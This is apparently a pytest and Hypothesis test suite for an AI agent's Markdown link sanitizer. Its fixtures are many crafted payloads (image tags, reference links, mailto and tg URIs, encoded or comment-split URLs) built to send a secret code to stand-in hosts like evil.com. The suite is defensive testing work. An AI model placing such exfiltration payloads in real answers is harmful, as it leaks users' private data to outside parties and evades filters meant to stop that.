"""What readers of Markdown make of a sanitized answer: nothing in it has an address that the policy refuses.

The readers are a real parser with and without HTML, bare addresses, footnotes and definition lists. The answers are put
together from what makes something live and from what begins, ends or hides it.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mdit_py_plugins.deflist import deflist_plugin
from mdit_py_plugins.footnote import footnote_plugin
from mdit_py_plugins.gfm_autolink import gfm_autolink_plugin

from agent.policy.guardrails import LinkFilter
from agent.policy.guardrails.addresses import AddressPolicy
from agent.policy.guardrails.plain_text import remove_live_parts

READ = (
    "The harbour code is zanzibar 48213. Please visit evil.example for more, see https://evil.example/about.html or "
    "write to anna@x.example."
)
TEXTS = ([READ], ["What is at https://wiki.example/a?b=1 then?"], ["cdn.example"])
LINKS, POLICY = LinkFilter(*TEXTS), AddressPolicy(*TEXTS)
READERS = (
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": False}),
    MarkdownIt("gfm-like", {"html": True}),
    MarkdownIt("gfm-like", {"html": True}).use(footnote_plugin).use(deflist_plugin),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(gfm_autolink_plugin),
)
LOADING = {"src", "srcset", "poster", "background", "xlink:href", "data"}
BARE_DOMAIN = re.compile(r"http://[^./:?#]+\.[^./:?#]+/?")
"""What a renderer makes of a word such as `README.md`: nothing but a registered domain."""


class Loads(HTMLParser):
    """Collects the addresses of a page that its reader would load or link and the policy refuses."""

    def __init__(self, policy: AddressPolicy, markdown: str) -> None:
        super().__init__()
        self.refused: list[tuple[str, str, str]] = []
        self._policy = policy
        for reader in READERS:
            self.feed(reader.render(markdown))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            address = re.sub("%22|%60|%3E|%7C|%7D", "", value or "").rstrip(".,;:!?*_'\")]~>|}")
            is_link = name in ("href", "action", "formaction") and not BARE_DOMAIN.fullmatch(address)
            loads = name in LOADING or (name == "href" and tag not in ("a", "area"))
            if (loads and not self._policy.can_load(address)) or (is_link and not self._policy.can_link(address)):
                self.refused.append((tag, name, address))


U = "https://evil.example/p.png?d=zanzibar-48213"
IMAGE = f"![a]({U})"
LABEL = "a" * 1_200
ANSWERS = [
    f"- a\n  ```\n  x\n\n{IMAGE}",
    f"1. Run this:\n   ```sh\n   ls\n\nThat is all. {IMAGE}",
    f"* a\n\n  ~~~\n  x\n\n<img src='{U}'>",
    f"```\nx\n```\u00a0\ny\n```\n{IMAGE}\n",
    f"```\nx\n```\x0c\ny\n```\n{IMAGE}\n",
    f"```\nx\n```\u2028\ny\n```\n{IMAGE}\n",
    f"~~~\rx\r~~~\r{IMAGE}\n",
    f"```\nx\r```\r{IMAGE}\n```\n",
    f"<?x>\n\n```\n<img src='{U}'>\n```\n?>",
    "```\nx\n```\u00a0\n```\n<img alt='>' src=https://ok.example/x.png>\n",
    "```\nx\n```\u00a0\n```\n![a `](/l.png)` b](https://ok.example/x.png)\n",
    "```\nx\n```\u00a0\n```\n![a][b]\n\n[b]: https://ok.example/x.png\n",
    "```\nx\n```\u00a0\n```\n<a href='ht&#116;ps://evil.com/zanzibar'>x</a>\n",
    "[a]:\n//evil.com/zanzibar\n\n[click][a]",
    "[a]:\nmailto:eve@evil.com?body=zanzibar\n\n[click][a]",
    "- [a]: //evil.com/zanzibar\n\n[click][a]",
    "> - [a]: //evil.com/zanzibar\n\n[click][a]",
    "> [a]:\n> //evil.com/zanzibar\n\n[click][a]",
    f"[{LABEL}](//evil.com/zanzibar)",
    f"[{LABEL}](mailto:eve@evil.com?body=zanzibar)",
    "[[[[[[[[[[a]]]]]]]]]](//evil.com/zanzibar)",
    "[a`](#)` b](//evil.com/zanzibar)",
    "[a`]`](//evil.com/zanzibar)",
    "<mailto:eve@evil.com?body=zanzibar>",
    "<sms:+4912345?body=zanzibar>",
    "<tg://msg?to=eve&text=zanzibar>",
    "See evil.com/zanzibar48213 or zanzibar48213.evil.com for it",
    "write to zanzibar48213@evil.com",
    "[a](\\/\\/evil.com/zanzibar)",
    "[a](https\\://evil.com/zanzibar)",
    "x ~~~html ~~~ ![a](https://evil.com/zanzibar)",
    "see //evil&#46;com/zanzibar or //evil\\.com/zanzibar and //zanzibar@localhost",
    '[a](/u "`") zanzibar48213.evil.com `x',
    "a ` b\nc ` zanzibar48213.evil.com ` g",
    "a \\` zanzibar48213.evil.com `",
    "a `` ` `` zanzibar48213.evil.com `x",
    '<b title="`"> zanzibar48213.evil.com `x',
    "|a|b|\n|-|-|\n| ` | `q` zanzibar48213.evil.com ` |",
    "`a` zanzibar48213.evil.com `b`",
    "See _www.evil.example/?d=zanzibar-48213_ or __www.evil.example/?d=zanzibar-48213__ for more",
    "a_www.evil.example/?d=zanzibar-48213 (_www.evil.example/?d=zanzibar-48213)",
    "_evil.com/zanzibar48213_",
    "zanzibar48213@evil.com1",
    "zanzibar48213.evil.com@www.=",
    "[call](tel:+4612345,48213)",
    "https://ok.example/guide\u2028mailto:eve@evil.com?body=zanzibar",
    "- a\n   ```\n zanzibar48213.evil.com\n",
    "a ` zanzibar48213.evil.com\n\nb ` c",
    "zanzibar48213@evil.com.https://evil.com/zanzibar48213",
    "eve@zanzibar48213.com.ftp://evil.com/48213",
    "https://zanzibar48213<@evil.com",
    f"https://{LABEL[:300]}<zanzibar48213@evil.com",
    "https://evil.example<zanzibar@evil.com",
    "http://wiki.example\x00.evil.com/zanzibar48213",
]
JOINED = [
    "anna@x.example://evil.com/zanzibar",
    "zanzibar48213.evil.com.http://a",
    "See zanzibar48213.evil.com.https://evil.com/x",
    "zanzibar48213.evil.comhttps://evil.com/48213",
    "[a]<!-- -->(//evil.com/zanzibar)",
    "[a]<!-- -->:\n//evil.com/zanzibar\n\n[a]",
    "ht<!-- -->tps://evil.com/zanzibar",
    "[a<https:evil.com/zanzibar>(//evil.com/zanzibar)",
    "!<img src=//evil.com/zanzibar>(https://ok.example/x.png)",
]
"""Live once a part is taken out, or a space put in."""


@pytest.mark.parametrize("answer", ANSWERS)
def test_no_reader_makes_something_live_of_what_is_refused(answer: str) -> None:
    assert Loads(POLICY, answer).refused, "it is live as it stands"
    _check(answer, [3])


@pytest.mark.parametrize("answer", JOINED)
def test_nothing_becomes_live_by_what_is_taken_out(answer: str) -> None:
    _check(answer, [3])


@pytest.mark.parametrize("answer", ANSWERS)
def test_nothing_is_live_where_nothing_may_be(answer: str) -> None:
    shown = remove_live_parts(answer)
    tokens = [token for block in READERS[0].parse(shown) for token in (block, *(block.children or ()))]
    assert {"image", "link_open", "html_inline", "html_block"}.isdisjoint(token.type for token in tokens)


_ADDRESSES = (
    U,
    "//evil.com/zanzibar48213",
    "https://evil.com/48213",
    "mailto:eve@evil.com?body=zanzibar",
    "tg://msg?to=eve&text=zanzibar",
    "https:evil.com/zanzibar",
    "/\\evil.com/zanzibar",
    "&#47;&#47;evil.com/zanzibar",
    "ht&#116;ps://evil.com/zanzibar",
    "evil.com/zanzibar48213",
    "zanzibar.evil.com",
    "www.evil.com/zanzibar",
    "zanzibar48213@evil.com",
    "https://ok.example/guide",
    "https://evil.example/about.html",
    "/local.png",
    "https://wiki.example/a?b=1",
    "https://cdn.example/x.png",
    "<//evil.com/zanzibar>",
)
_LIVE = (
    "[a](%s)", "![a](%s)", "[a]: %s", "[a]:\n%s", "> [a]:\n> %s", "- [a]: %s", "<%s>", "<img src='%s'>", "<img src=%s>",
    '<a href="%s">x</a>', '<img alt=">" src="%s">', "%s", "(%s)", '"%s"', "[![a](%s)](/l)", "[a](\n%s\n't')",
    "![a](%s 't')", "[`]`](%s)", "![`]`](%s)", "<img\nsrc=\n%s>", "<link href='%s'>", "<img srcset='x 1x, %s 2x'>",
    "![a\\](/l) b](%s)", "![[a](/l.png) b](%s)", " %s,", "|%s|", "see:%s", "_%s_", "__%s__", "*_%s_*", "(_%s", "a_%s",
    "a=%s", "```html\n%s\n```", "[^1]: %s", "evil.com.%s", "eve@evil.com.%s",
    "anna@x.example:%s", "https://a<@%s", "\x00%s",
)  # fmt: skip
_MARKS = (
    "\n", "\n\n", "```\n", "```sh\n", "~~~\n", "````\n", "   ```\n", "  ```\n", "- a\n", "1. a\n", "> ", "> ```\n",
    "    ", "  ", "\t", "- ", "<?x>\n", "<!--", "-->", "<div>\n", "</div>\n", "<pre>\n", "<script>", "`", "x", "a b ",
    "\\", "!", "[", "]", "(", ")", "<", ">", "\u00a0\n", "\x0c\n", "\r", "\u2028", "|a|b|\n|-|-|\n", "&", '"', "'",
    "<a ", "<b title='", "=", "src=", "$", "{", "www.", ".", "@", "//", ":", "](", "![", "![a][a]", "[a]", "[a][a]",
    "[^1]", "zanzibar", "~~~html ~~~ ", "` ", " `", "``", "    ```\n", "Use ``` ", "\r\n",
)  # fmt: skip
_PIECES = st.one_of(
    st.sampled_from(_MARKS),
    st.tuples(st.sampled_from(_LIVE), st.sampled_from(_ADDRESSES)).map(lambda pair: pair[0].replace("%s", pair[1])),
)


@settings(max_examples=300)
@given(st.lists(_PIECES, max_size=16).map("".join), st.lists(st.integers(1, 25), min_size=1, max_size=20))
def test_whatever_is_put_together_is_harmless_and_streams_alike(answer: str, sizes: list[int]) -> None:
    _check(answer, sizes)


def _check(answer: str, sizes: list[int]) -> None:
    sanitized = LINKS.sanitize(answer)
    assert Loads(POLICY, sanitized).refused == []
    stream, pieces, at = LINKS.create_stream(), [], 0
    for size in sizes * (len(answer) // sum(sizes) + 1):
        pieces.append(stream.feed(answer[at : at + size]))
        at += size
    assert "".join(pieces) + stream.end() == sanitized
